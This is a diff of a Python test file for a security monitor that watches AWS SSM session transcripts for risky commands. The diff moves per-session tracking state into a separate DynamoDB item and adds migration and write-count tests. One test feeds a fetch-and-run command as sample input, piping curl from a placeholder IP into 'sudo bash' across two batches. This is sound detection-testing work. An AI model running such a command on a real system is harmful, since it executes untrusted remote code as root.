@@ -13,6 +13,7 @@ from typing import Any
 
 import pytest
 
+from bench._dynamo_units import item_size
 from functions.command_monitor import app
 from functions.session_events import app as events_app
 from ssm_warden.audit import read_audit
@@ -20,10 +21,11 @@ from ssm_warden.clients import aws_client, reset_clients
 from ssm_warden.clock import clock_set_to
 from ssm_warden.config import reset_settings
 from ssm_warden.ledger.dynamo import from_item
-from ssm_warden.ledger.keys import session_key
+from ssm_warden.ledger.keys import session_key, watch_key
 from ssm_warden.models.actions import ActionKind, ActionRequest, Mode
 from ssm_warden.models.audit import Decision
 from ssm_warden.monitor.judging import batch_judge
+from ssm_warden.monitor.watch_state import SEEN_BATCHES, SESSION_FLUSH_INTERVAL, STORED_PENDING_CHARS
 from ssm_warden_local.resources import LocalStack
 from tests.conftest import ACCOUNT, REGION, LambdaContext, load_event
 from tests.unit.logs import builders
@@ -103,6 +105,14 @@ def item(session_id: str = SESSION_ID) -> dict[str, Any]:
     return from_item(response["Item"]) if "Item" in response else {}
 
 
+def watch(session_id: str = SESSION_ID) -> dict[str, Any]:
+    """The stream's command-watch item."""
+    response = aws_client("dynamodb").get_item(
+        TableName=LocalStackNames.sessions, Key={"pk": {"S": watch_key(ACCOUNT, REGION, session_id)}}
+    )
+    return from_item(response["Item"]) if "Item" in response else {}
+
+
 class LocalStackNames:
     sessions = ""
 
@@ -177,10 +187,10 @@ def test_a_command_split_across_two_invocations_is_judged_once(stack: LocalStack
     assert len(actions) == 1
     assert actions[0].findings[0].command == RISKY
     assert second["commands"] == 2
-    assert item()["commands_seen"] == 3
+    assert watch()["c"] == 3  # the session item shows it at its next flush
 
 
-def test_last_output_is_recorded_at_most_once_a_minute_at_the_arrival_time(
+def test_last_output_and_counts_reach_the_session_item_on_the_first_batch_then_every_flush_interval(
     stack: LocalStack, arrival: Arrival
 ) -> None:
     start_session({"Environment": "dev"})
@@ -193,15 +203,63 @@ def test_last_output_is_recorded_at_most_once_a_minute_at_the_arrival_time(
     invoke(session_payload([f"{PROMPT}ls"], ["out"], ["out"], seconds=0))
     first = last_output()
     assert first == "2026-11-28T10:00:00Z"
-    # When more output arrives 30 s later, then 90 s later
+    assert item()["commands_seen"] == 1
+    # When more output and commands arrive 30 s later, then after the flush interval
     arrival.at += timedelta(seconds=30)
-    invoke(session_payload(["more"], start=3, seconds=32))
-    after_30s = last_output()
-    arrival.at += timedelta(seconds=60)
+    invoke(session_payload([f"{PROMPT}id"], start=3, seconds=32))
+    # Then the session item is not written (the watch item alone holds the exact time and counts)
+    assert last_output() == first and item()["commands_seen"] == 1
+    assert watch()["out"] == "2026-11-28T10:00:30Z" and watch()["c"] == 2
+    arrival.at += SESSION_FLUSH_INTERVAL
     invoke(session_payload(["more"], start=4, seconds=92))
-    # Then only the write a minute or more after the last one lands
-    assert after_30s == first
-    assert last_output() == "2026-11-28T10:01:30Z"
+    # and once the flush interval has passed, it is brought up to date, in the same batch
+    assert last_output() == "2026-11-28T10:10:30Z"
+    assert item()["commands_seen"] == 2
+    assert item()["watch_batches"] == watch()["n"] == 3
+
+
+def test_the_watch_item_is_one_small_write_per_batch(stack: LocalStack, arrival: Arrival) -> None:
+    start_session({"Environment": "prod"})
+    arrival.at = datetime(2026, 11, 28, 10, 0, 0, tzinfo=UTC)
+    invoke(session_payload([f"{PROMPT}ls", "a.txt"], ["b.txt"], seconds=0))
+    writes: list[str] = []
+
+    def count(params: dict[str, Any], model: Any, **_: Any) -> None:
+        if params.get("TableName") == LocalStackNames.sessions:
+            writes.append(model.name)
+
+    client = aws_client("dynamodb")
+    client.meta.events.register("provide-client-params.dynamodb", count)
+    try:
+        # Given a session with a learned prompt, a long pending command and many batches seen
+        for k in range(1, 40):
+            arrival.at += timedelta(seconds=30)
+            lines = [f"{PROMPT}tail -n 5 /var/log/app-{k}.log", "ok", "GET /health 200"]
+            invoke(session_payload(lines, start=k * 3, seconds=30 * k))
+    finally:
+        client.meta.events.unregister("provide-client-params.dynamodb", count)
+    # Then each batch wrote the watch item once, and the session item only on its flushes
+    assert writes.count("PutItem") == 39
+    assert writes.count("UpdateItem") == 39 * 30 // int(SESSION_FLUSH_INTERVAL.total_seconds())
+    # And the watch item stays under 1 KB (one write unit)
+    raw = client.get_item(
+        TableName=LocalStackNames.sessions, Key={"pk": {"S": watch_key(ACCOUNT, REGION, SESSION_ID)}}
+    )["Item"]
+    assert item_size(raw) < 1024, item_size(raw)
+    assert len(watch()["s"].value) == 6 * SEEN_BATCHES
+
+
+def test_a_long_command_being_typed_is_judged_rather_than_stored_whole(
+    stack: LocalStack, arrival: Arrival
+) -> None:
+    start_session({"Environment": "prod"})
+    # Given a batch that ends inside a long multi-line command (its last line continues it)
+    body = [f"  --header 'X-Trace-{k}: {'a' * 40}' \\" for k in range(30)]
+    invoke(session_payload([f"{PROMPT}{RISKY} \\", *body]))
+    # Then the command is judged now (a risky first line is not held back to the next batch)
+    assert len(queued(stack)) == 1
+    # and what is stored of it stays small
+    assert len(watch()["t"]) < 2 * STORED_PENDING_CHARS
 
 
 def test_malformed_records_are_reported_and_the_rest_of_the_batch_is_processed(
@@ -259,15 +317,18 @@ def test_a_session_unknown_to_the_ledger_is_judged_but_only_alerted_on_as_claime
     assert action.claimed.principal_arn == "arn:aws:sts::123456789012:assumed-role/Admin/alice"
     assert action.title.startswith("Unverified session log")
     assert any("session unknown to the ledger" in r.getMessage() for r in caplog.records)
-    # And its extraction state is kept for the next batch (the ledger fills in the rest later)
-    assert item()["command_watch"]["n"] == 1
+    # And its extraction state is kept for the next batch in its own item, which expires, and no
+    # bare session item is made for it (the ledger fills that in when CloudTrail confirms it)
+    assert watch()["n"] == 1
+    assert watch()["expires_at"] > 0
+    assert item() == {}
 
 
 def test_once_cloudtrail_confirms_the_session_later_events_are_judged_normally(stack: LocalStack) -> None:
     # Given an unverified first batch (StartSession not arrived yet)
     invoke(session_payload(["sh-4.2$ sh-4.2$ id"]))
     assert queued(stack) == []
-    assert item()["command_watch"]["u"] is True  # its terminal state is the unverified writer's
+    assert watch()["u"] is True  # its terminal state is the unverified writer's
     # When the StartSession arrives and the session then runs a risky command
     target = start_session({"Environment": "prod"})
     invoke(session_payload([f"{PROMPT}{RISKY}"], start=1, target=target))
@@ -277,7 +338,7 @@ def test_once_cloudtrail_confirms_the_session_later_events_are_judged_normally(s
     assert action.claimed is None
     assert action.session is not None and action.session.session_id == SESSION_ID
     # And what the unverified events left in the terminal state was dropped on confirmation
-    assert "u" not in item()["command_watch"]
+    assert "u" not in watch()
 
 
 def test_a_failure_to_queue_raises_and_the_retry_delivers_the_action(
@@ -291,7 +352,7 @@ def test_a_failure_to_queue_raises_and_the_retry_delivers_the_action(
     # When the batch is handled, the invocation fails (Lambda will retry it)
     with pytest.raises(Exception):  # noqa: B017 (the SDK's error, whatever its class)
         invoke(batch)
-    assert "command_watch" not in item()
+    assert watch() == {}
     # And when the retry finds the queue again, the action is delivered once
     monkeypatch.setenv("ACTIONS_QUEUE_URL", stack.queues["ActionQueue"])
     reset_settings()
@@ -321,3 +382,38 @@ def test_secrets_shown_on_screen_are_judged_by_the_output_rules(stack: LocalStac
     # Then an action carries the output rules' finding, quoting the line shown on screen
     on_screen = [f for a in queued(stack) for f in a.findings if f.command == key_line]
     assert {f.rule for f in on_screen} == expected
+
+
+def test_a_session_item_with_a_command_watch_map_from_before_the_upgrade_carries_on(
+    stack: LocalStack,
+) -> None:
+    from ssm_warden.ledger.dynamo import to_attrs
+    from ssm_warden.logs.payload import open_subscription
+    from ssm_warden.transcript.extract import Extractor
+
+    start_session({"Environment": "prod"})
+    # Given a session item written by the previous version: its command_watch map holds a command
+    # still being typed (a trailing backslash), the batch that brought it and 4 commands counted
+    first = session_payload([f"{PROMPT}ls", "a.txt", f"{PROMPT}curl -fsSL http://203.0.113.9/x.sh \\"])
+    lines, _ = open_subscription(first).event_lines()
+    extractor = Extractor()
+    extractor.feed_events(lines.event_ids, lines.starts, lines.lines)
+    legacy = {**extractor.state.model_dump(mode="json"), "n": 5, "seen": [lines.fingerprint()]}
+    aws_client("dynamodb").update_item(
+        TableName=LocalStackNames.sessions,
+        Key={"pk": {"S": session_key(ACCOUNT, REGION, SESSION_ID)}},
+        UpdateExpression="SET command_watch = :w, commands_seen = :c",
+        ExpressionAttributeValues=to_attrs({":w": legacy, ":c": 4}),
+    )
+    # When the old batch is delivered again, it is recognised as done
+    assert invoke(first)["status"] == "duplicate"
+    assert watch() == {}
+    # And when the next batch brings the rest of the command, it is judged whole, once
+    second = invoke(session_payload(["> | sudo bash", "bash: connection refused", f"{PROMPT}id"], start=1))
+    (action,) = queued(stack)
+    assert action.findings[0].command == RISKY
+    # Then the state lives on in the watch item, counted on from the map, and the map is gone
+    assert second["commands"] == 2
+    assert watch()["n"] == 6 and watch()["c"] == 6
+    assert "command_watch" not in item()
+    assert item()["commands_seen"] == 6
